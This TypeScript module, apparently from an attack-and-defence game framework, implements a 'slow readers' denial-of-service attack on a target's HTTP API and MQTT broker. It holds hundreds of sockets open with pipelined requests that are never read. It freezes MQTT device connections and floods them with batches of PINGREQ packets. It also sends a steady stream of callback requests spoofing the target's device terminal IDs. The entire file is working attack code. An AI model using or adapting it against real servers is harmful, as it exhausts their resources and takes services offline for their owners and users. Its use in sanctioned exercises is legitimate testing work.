import { openDevice } from '../gang/device.ts'
import { ask, callback, get } from '../gang/requests.ts'
import { type Attack, anyAddress, halfFromOne } from '../gang/round.ts'

const READERS = 200
/** Answers that are asked for at once; a hub that answers one at a time stops at the first. */
const ANSWERS_EACH = 20
const HELD_MS = 5_000
const AGAIN_MS = 200
const PATHS = ['/openapi.json', '/docs/assets/swagger-ui-bundle.js', '/docs/assets/swagger-ui.css']

/** Callbacks for the speakers that do not read. */
const CLIENTS = 10
const GAP_MS = 100
/** A speaker that reads nothing asks for answers, too. */
const PINGS_AT_ONCE = Buffer.alloc(2_000, Buffer.from([0xc0, 0]))
const PING_MS = 100

export const slowReaders: Attack = async (target, round) => {
  const { devices } = target.neighbour
  let sent = 0
  const request = () => {
    sent += 1
    const { terminalID = '' } = devices[sent % devices.length] ?? {}
    return callback(target, { terminalID, ftCode: `SLOW${round.random()}-${sent}` })
  }
  await Promise.all([
    round.crowd(READERS, AGAIN_MS, async (member) => {
      const socket = round.connect(target.http, halfFromOne(member, READERS))
      socket.write(get(PATHS[member % PATHS.length] ?? '').repeat(ANSWERS_EACH))
      await round.pause(HELD_MS)
      socket.destroy()
    }),
    round.crowd(devices.length, AGAIN_MS, async (member) => {
      const one = devices[member]
      if (!one) return
      const device = await openDevice(round, target.mqtt, one, anyAddress(member))
      if (!device) return
      device.freeze()
      // Every other one keeps on sending.
      while (member % 2 === 0 && !round.isOver && device.isOpen) {
        device.write(PINGS_AT_ONCE)
        await round.pause(PING_MS)
      }
      if (member % 2 === 1) await round.pause(HELD_MS)
      device.close()
    }),
    ask(round, target.http, { clients: CLIENTS, gapMs: GAP_MS, from: anyAddress, request }),
  ])
}
